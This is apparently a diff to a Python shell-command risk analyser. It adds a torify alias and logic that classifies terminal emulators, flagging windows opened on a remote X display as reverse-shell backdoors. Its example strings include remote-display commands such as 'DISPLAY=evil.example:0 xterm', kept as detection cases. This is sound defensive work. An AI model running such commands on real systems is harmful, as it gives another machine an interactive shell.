@@ -562,7 +562,8 @@ RUNS: dict[str, Runs] = {
     "doppler": Runs(code=("--command",), secrets=True), "op": Runs(secrets=True),
     "infisical": Runs(code=("--command",), secrets=True), "dotenv": Runs(secrets=True),
     "envchain": Runs(skip=1, secrets=True), "chronic": Runs(), "firejail": Runs(), "proxychains": Runs(),
-    "proxychains4": Runs(), "torsocks": Runs(), "xvfb-run": Runs(), "dbus-run-session": Runs(), "ssh-agent": Runs(),
+    "proxychains4": Runs(), "torsocks": Runs(), "torify": Runs(), "xvfb-run": Runs(), "dbus-run-session": Runs(),
+    "ssh-agent": Runs(),
     "setpriv": Runs(), "sg": Runs(skip=1, code=("-c",), one_string=True),
 }
 
@@ -818,7 +819,7 @@ PLAIN_RUNNERS = (
            rows=(Row("envchain.set", "credentials", "envchain --set stores secrets", When(flag=("set", "s")),
                      stop=True, examples=("envchain --set aws AWS_SECRET_ACCESS_KEY",)),)),
     runner("chronic"), runner("firejail"), runner("proxychains", aliases=("proxychains4",), values=("-f",)),
-    runner("torsocks", values=("-u", "-p", "-a", "-P")),
+    runner("torsocks", aliases=("torify",), values=("-u", "-p", "-a", "-P")),
     runner("xvfb-run", values=("-n", "--server-num", "-s", "--server-args", "-f", "--auth-file", "-e", "--error-file",
                                "-p", "--xauth-protocol")),
     runner("dbus-run-session", values=("--config-file",)), runner("ssh-agent", values=("-a", "-E", "-t", "-P", "-O")),
@@ -827,6 +828,109 @@ PLAIN_RUNNERS = (
                               "--egid")),
     runner("sg", doc="runs a command with another group", hook=sg_group),
 )
+
+# ---------------------------------------------------------------- terminal emulators
+
+# A terminal emulator opens a window and runs a shell in it (a session someone types into at that display), or
+# the command it is given: after -e (xterm, urxvt, st, alacritty, konsole, ghostty), after `--` or -x
+# (gnome-terminal, xfce4-terminal, terminator, mate-terminal), a command line string (-e/--command of the
+# gnome-style ones), or its operands (kitty, foot). On another host's display (`xterm -display 203.0.113.5:1`,
+# DISPLAY=host:0) that shell is the other host's to type into: a reverse shell (GTFOBins' xterm, MITRE T1059).
+class Terminal:
+    __slots__ = ("rest", "string", "operands")
+
+    def __init__(self, rest=("-e",), string=(), operands=False):
+        self.rest, self.string, self.operands = tuple(rest), tuple(string), operands
+
+
+XTERMS = Terminal(rest=("-e",))
+GNOME_TERMINALS = Terminal(rest=("--", "-x", "--execute"), string=("-e", "--command"))
+TERMINALS = {
+    "xterm": XTERMS, "uxterm": XTERMS, "lxterm": XTERMS, "urxvt": XTERMS, "rxvt": XTERMS, "urxvtc": XTERMS,
+    "st": XTERMS, "konsole": XTERMS, "ghostty": XTERMS, "x-terminal-emulator": XTERMS,
+    "alacritty": Terminal(rest=("-e", "--command")),
+    "gnome-terminal": Terminal(rest=("--",), string=("-e", "--command")), "xfce4-terminal": GNOME_TERMINALS,
+    "terminator": GNOME_TERMINALS, "mate-terminal": GNOME_TERMINALS, "lxterminal": GNOME_TERMINALS,
+    "tilix": GNOME_TERMINALS, "kitty": Terminal(rest=("--",), operands=True),
+    "foot": Terminal(rest=("--",), operands=True),
+}
+SHELL_NAMES = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "fish", "tcsh", "csh", "ash", "yash"})
+LOCAL_DISPLAY = lazy_re(r"^(?:unix|localhost|127\.0\.0\.1|::1|\[::1\])?:\d+(?:\.\d+)?$")
+TERMINAL_VALUES = frozenset({"-T", "-title", "-n", "-name", "-class", "-geometry", "-g", "-fn", "-fa", "-fs", "-bg",
+                             "-fg", "-bd", "-bw", "-cr", "-xrm", "-into", "-w", "-t", "-o", "--option", "--title",
+                             "--working-directory", "--class", "--config-file", "-c", "--config", "-d", "--directory",
+                             "--profile", "--geometry", "--session", "--tab-with-profile", "--role", "--font",
+                             "--hold-mode", "--instance-group", "--listen-on", "-1", "--single-instance"})
+
+
+def _display(args, cmd) -> str | None:
+    """The X display it opens on: -display/--display, else a DISPLAY the line gives it."""
+    for k, word in enumerate(args):
+        if word in ("-display", "--display") and k + 1 < len(args):
+            return args[k + 1]
+        if word.startswith("--display="):
+            return word.split("=", 1)[1]
+    for assignment in cmd.part.assignments if cmd.part is not None else ():
+        if assignment.name == "DISPLAY":
+            return assignment.value if assignment.value is not None else UNKNOWN
+    return None
+
+
+@emits({"terminal.remote-display": ["xterm -display 203.0.113.5:1", "DISPLAY=evil.example:0 xterm",
+                                    "gnome-terminal --display=10.0.0.9:0"],
+        "terminal.runs": ["xterm -e make test", "gnome-terminal -- htop", "kitty nvim", "alacritty -e 'npm start'"],
+        "terminal.runs-line": ["xfce4-terminal -e 'make test'", "gnome-terminal --command='top -d 1'"],
+        "terminal.runs-runtime": ['xterm -e "$X"'], "terminal.shell": ["xterm", "konsole", "kitty"]})
+def terminal_command(cmd, o) -> None:
+    """The window's command (judged as itself), or its shell; and where the window opens."""
+    spec = TERMINALS[cmd.name]
+    args = list(o.args)
+    display = _display(args, cmd)
+    if display is not None and (UNKNOWN in display or not LOCAL_DISPLAY.match(display)):
+        cmd.facts.net_send = True
+        cmd.does("backdoor", "terminal.remote-display", f"{cmd.name} opens a shell on the display "
+                                                        f"{display.replace(UNKNOWN, '…')}: another machine types into it")
+    command: list[str] | None = None
+    line: str | None = None
+    i = 0
+    while i < len(args):
+        word = args[i]
+        head, eq, value = word.partition("=")
+        if word in spec.rest:
+            command = args[i + 1:]
+            break
+        if head in spec.string:
+            line = value if eq else (args[i + 1] if i + 1 < len(args) else "")
+            break
+        if spec.operands and not word.startswith("-"):
+            command = args[i:]
+            break
+        i += 2 if word in TERMINAL_VALUES or word in ("-display", "--display") else 1
+    if line is not None:
+        if UNKNOWN in line:
+            cmd.facts.runtime_code = True
+            cmd.does("run-code", "terminal.runs-runtime", f"{cmd.name} runs a command known only at run time")
+            return
+        cmd.does("session", "terminal.runs-line", f"{cmd.name} runs '{line[:40]}' in a new terminal window")
+        cmd.code_text(line, f"{cmd.name} runs", at_least=SESSION_FLOOR)
+        return
+    if not command or len(command) == 1 and command[0].rsplit("/", 1)[-1] in SHELL_NAMES:
+        # the window's shell reads the window's terminal: a session someone types into at that display
+        cmd.does("session", "terminal.shell", f"{cmd.name} opens a terminal window with a shell in it")
+        return
+    if UNKNOWN in command[0]:
+        cmd.facts.runtime_code = True
+        cmd.does("run-code", "terminal.runs-runtime", f"{cmd.name} runs a program known only at run time")
+        return
+    cmd.does("session", "terminal.runs", f"{cmd.name} runs {command[0]} in a new terminal window")
+    if len(command) == 1 and " " in command[0]:
+        cmd.code_text(command[0], f"{cmd.name} -e runs", at_least=SESSION_FLOOR)     # `xterm -e 'a b'`: sh -c
+        return
+    _hand_on(cmd, command, "terminal.runs", cmd.name)
+
+
+TERMINAL_PROGRAMS = tuple(Program(name, doc=f"{name}: a terminal window, with a shell or the command it is given",
+                                  hook=terminal_command) for name in TERMINALS)
 
 # ---------------------------------------------------------------- pickers and watchers that run command strings
 
@@ -1133,4 +1237,4 @@ PERF = Program(
 TRACERS = (tracer("valgrind", "runs a program under valgrind's tools"),)
 
 PROGRAMS = programs(FD, PARALLEL, SCREEN, TMUX, SYSTEMD_RUN, PIPENV, DIRENV, AWS_VAULT, DOPPLER, INFISICAL, OP,
-                    *PLAIN_RUNNERS, MISE, NIX, NIX_SHELL, SCRIPT, PERF, *TRACERS, FZF, ENTR, CONKY, RANGER)
+                    *PLAIN_RUNNERS, *TERMINAL_PROGRAMS, MISE, NIX, NIX_SHELL, SCRIPT, PERF, *TRACERS, FZF, ENTR, CONKY, RANGER)
